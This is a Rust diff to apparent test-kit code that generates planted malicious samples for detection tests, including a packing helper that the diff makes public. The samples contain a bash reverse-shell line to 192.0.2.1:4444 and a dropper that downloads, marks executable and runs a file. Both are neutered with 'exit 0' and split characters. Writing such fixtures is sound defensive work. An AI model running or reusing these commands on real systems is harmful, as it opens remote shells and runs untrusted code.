@@ -91,7 +91,8 @@ fn plain(text: &str) -> String {
     text.replace('¦', "")
 }
 
-fn reverse_shell() -> String {
+/// A script that would connect a shell to elsewhere, if it did not end first.
+pub fn reverse_shell() -> String {
     plain("#!/bin/bash\nexit 0\nbash -i >& /dev/t¦cp/192.0.2.1/4444 0>&1\n")
 }
 
@@ -100,7 +101,9 @@ fn web_shell() -> String {
 }
 
 fn dropper() -> String {
-    plain("#!/bin/sh\nexit 0\ncu¦rl -s http://192.0.2.7/x -o /tmp/.x; chm¦od +x /tmp/.x; /tmp/.x\n")
+    plain(
+        "#!/bin/sh\nexit 0\ncu¦rl -s http://192.0.2.7/x -o /dev/shm/.x; chm¦od +x /dev/shm/.x; /dev/shm/.x\n",
+    )
 }
 
 /// A library with the names that hide processes.
@@ -364,19 +367,20 @@ fn places() -> Vec<Planted> {
     ]
 }
 
-/// Made by a program that packs, of a file `x.sh`; `None`, said aloud, where there is none.
-fn packed(script: &str) -> Option<Vec<u8>> {
+/// What a program that packs makes of [`reverse_shell`], the file `x.sh`, and calls `out`; `None`, said aloud, where there
+/// is no such program.
+pub fn packed(script: &str) -> Option<Vec<u8>> {
     let folder = env::temp_dir().join(format!("testkit-planted-{}", std::process::id()));
     fs::create_dir_all(&folder).unwrap();
     fs::write(folder.join("x.sh"), reverse_shell()).unwrap();
     let ran = Command::new("sh").args(["-ec", script]).current_dir(&folder).output().unwrap();
-    let made = fs::read(folder.join("out"));
+    let made = fs::read(folder.join("out")).ok().filter(|_| ran.status.success());
     fs::remove_dir_all(&folder).unwrap();
-    if made.is_err() {
+    if made.is_none() {
         assert!(env::var_os("PLIMSOLL_TEST_ALL").is_none(), "{script}: {ran:?}");
         eprintln!("skipped: {script}");
     }
-    made.ok()
+    made
 }
 
 /// An archive of `ar`, such as a package of Debian is.
